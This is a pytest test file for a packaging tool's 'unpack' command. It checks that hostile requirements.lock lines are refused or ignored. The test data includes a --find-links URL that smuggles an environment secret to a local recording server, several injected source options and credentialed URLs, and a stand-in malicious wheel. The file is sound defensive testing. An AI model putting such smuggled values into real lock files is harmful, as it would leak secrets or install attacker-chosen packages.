"""A bundle's lock does not decide where packages come from: repro does.

Real bundles from `repro pack --wheels all` (six and idna in the vault), extracted,
their `env/requirements.lock` edited and the bundle re-manifested so that `repro check`
passes; then the real `repro unpack`, with a local server on 127.0.0.1 that records
every connection and request and serves a wheel that must never be installed.
"""

from __future__ import annotations

import http.server
import io
import shutil
import socket
import tarfile
import threading
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from repro.bundle.manifesttree import write_manifest
from tests.install.test_unpack import build_workspace, installed, pack
from tests.support.run import run_repro
from tests.support.venvs import find_python

pytestmark = pytest.mark.slow

SECRET_NAME = "REPRO_TEST_SECRET"
SECRET_VALUE = "s3cr3t-d0-not-send-7f1c"


def _evil_wheel() -> bytes:
    """idna 3.20 from the attacker's page: importing it would print PWNED."""
    info = "idna-3.20.dist-info"
    files = {
        "idna/__init__.py": b"print('PWNED')\n",
        f"{info}/METADATA": b"Metadata-Version: 2.1\nName: idna\nVersion: 3.20\n",
        f"{info}/WHEEL": b"Wheel-Version: 1.0\nGenerator: evil\nRoot-Is-Purelib: true\n"
        b"Tag: py3-none-any\n",
        f"{info}/RECORD": b"",
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@dataclass
class Recorder:
    """What reached the server: every connection (TLS or not) and every HTTP request."""

    port: int = 0
    connections: int = 0
    requests: list[str] = field(default_factory=list)


@pytest.fixture()
def server() -> Iterator[Recorder]:
    recorder = Recorder()
    wheel = _evil_wheel()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            recorder.requests.append(self.path)
            if self.path.endswith(".whl"):
                body, kind = wheel, "application/octet-stream"
            else:
                body = b'<a href="idna-3.20-py3-none-any.whl">idna-3.20-py3-none-any.whl</a>'
                kind = "text/html"
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:
            pass

    class Server(http.server.ThreadingHTTPServer):
        def verify_request(self, request: object, client_address: object) -> bool:
            recorder.connections += 1
            return True

        def handle_error(self, request: object, client_address: object) -> None:
            pass  # a TLS hello to a plain HTTP server: expected in the online control

    httpd = Server(("127.0.0.1", 0), Handler)
    recorder.port = httpd.server_address[1]
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield recorder
    finally:
        httpd.shutdown()
        httpd.server_close()


@pytest.fixture(scope="module")
def packed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("sources")
    workspace = build_workspace(root / "ws", find_python("3.11"), ["six==1.16.0", "idna==3.7"])
    bundle = pack(workspace, root / "bundles", "1", "--wheels", "all")
    with tarfile.open(bundle) as archive:
        archive.extractall(root / "extracted", filter="data")
    (top,) = (root / "extracted").iterdir()
    return top


def _hostile(
    packed: Path, into: Path, first_lines: str, pin_edit: tuple[str, str] = ("", "")
) -> Path:
    """A copy of the packed bundle with `first_lines` on top of its lock, re-manifested."""
    bundle = into / packed.name
    shutil.copytree(packed, bundle)
    lock = bundle / "env" / "requirements.lock"
    text = lock.read_text()
    if pin_edit[0]:
        assert pin_edit[0] in text
        text = text.replace(pin_edit[0], pin_edit[1])
    lock.write_text(first_lines + text)
    write_manifest(bundle)
    checked = run_repro("check", str(bundle / "MANIFEST.sha256"))
    assert checked.returncode == 0, checked.stderr.decode()
    return bundle


def _unpack(bundle: Path, target: Path, *args: str) -> tuple[int, str]:
    result = run_repro(
        "unpack",
        str(bundle),
        "--target",
        str(target),
        "--cpu",
        "--no-smoke",
        "--installer",
        "uv",
        *args,
        env={SECRET_NAME: SECRET_VALUE},
    )
    return result.returncode, result.stdout.decode() + result.stderr.decode()


@pytest.mark.parametrize("mode", [("--offline",), ()], ids=["offline", "online"])
def test_a_find_links_line_with_a_variable_is_refused_before_anything_is_sent(
    packed: Path, server: Recorder, tmp_path: Path, mode: tuple[str, ...]
) -> None:
    line = f"--find-links http://127.0.0.1:{server.port}/${{{SECRET_NAME}}}/fl/"
    bundle = _hostile(packed, tmp_path, line + "\n")
    code, output = _unpack(bundle, tmp_path / "target", *mode)
    assert code == 1, output
    assert f"line 1: {line}" in output
    assert "holds characters no index URL needs" in output
    assert SECRET_VALUE not in output
    assert server.connections == 0 and server.requests == []
    assert not (tmp_path / "target").exists()


def test_recorded_https_lines_are_not_used_offline_and_the_vault_wins(
    packed: Path, server: Recorder, tmp_path: Path
) -> None:
    lines = (
        f"--extra-index-url https://127.0.0.1:{server.port}/simple/\n"
        f"--find-links https://127.0.0.1:{server.port}/fl/\n"
    )
    bundle = _hostile(packed, tmp_path, lines)
    code, output = _unpack(bundle, tmp_path / "target", "--offline")
    assert code == 0, output
    assert "offline: no index" in output
    assert server.connections == 0 and server.requests == []
    versions = installed(tmp_path / "target")
    assert versions["idna"] == "3.7" and versions["six"] == "1.16.0"


def test_recorded_https_index_is_what_an_online_install_is_given(
    packed: Path, server: Recorder, tmp_path: Path
) -> None:
    """The control: online, the recorded index (and only it) is put on the installer's
    argv by repro, and shown first. The server speaks no TLS, so the install fails."""
    index = f"https://127.0.0.1:{server.port}/simple/"
    bundle = _hostile(packed, tmp_path, f"--index-url {index}\n")
    code, output = _unpack(bundle, tmp_path / "target")
    assert code == 3, output
    assert f"index {index}" in output
    assert server.connections > 0
    assert server.requests == []  # TLS never got as far as a request
    assert SECRET_VALUE not in output


@pytest.mark.parametrize(
    ("first_lines", "pin_edit", "expected"),
    [
        ("--trusted-host 127.0.0.1\n", ("", ""), "unsupported option --trusted-host"),
        ("-c http://127.0.0.1:9/c.txt\n", ("", ""), "unsupported option -c"),
        ("-r other.txt\n", ("", ""), "unsupported option -r"),
        ("-e .\n", ("", ""), "unsupported option -e"),
        ("--index-url file:///tmp/simple\n", ("", ""), "line 1: --index-url file:///tmp/simple"),
        (
            "--index-url https://user:pw@example.com/simple\n",
            ("", ""),
            "carries credentials",
        ),
        (
            f"--extra-index-url https://${{{SECRET_NAME}}}.example.com/simple\n",
            ("", ""),
            "holds characters no index URL needs",
        ),
        ("-f https://example.com/fl/\x1b[2J\n", ("", ""), "line 1: --find-links"),
        ("", ("idna==3.7", f"idna==${{{SECRET_NAME}}}"), "is not an exact pin"),
    ],
    ids=[
        "trusted-host",
        "constraints",
        "include",
        "editable",
        "file-index",
        "credentials",
        "variable-in-host",
        "escape-sequence",
        "variable-in-pin",
    ],
)
def test_other_source_lines_are_refused_naming_the_line(
    packed: Path,
    tmp_path: Path,
    first_lines: str,
    pin_edit: tuple[str, str],
    expected: str,
) -> None:
    bundle = _hostile(packed, tmp_path, first_lines, pin_edit)
    code, output = _unpack(bundle, tmp_path / "target", "--offline")
    assert code == 1, output
    assert "env/requirements.lock" in output or "requirements.lock" in output
    assert expected in output
    assert "\x1b" not in output
    assert SECRET_VALUE not in output
    assert not (tmp_path / "target").exists()


def test_the_port_is_really_listening(server: Recorder) -> None:
    """The recorder sees a plain connection: the zero counts above are not a dead port."""
    with socket.create_connection(("127.0.0.1", server.port), timeout=5) as sock:
        sock.sendall(b"GET /probe HTTP/1.0\r\n\r\n")
        assert sock.recv(100).startswith(b"HTTP/1.")
    assert server.connections == 1 and server.requests == ["/probe"]
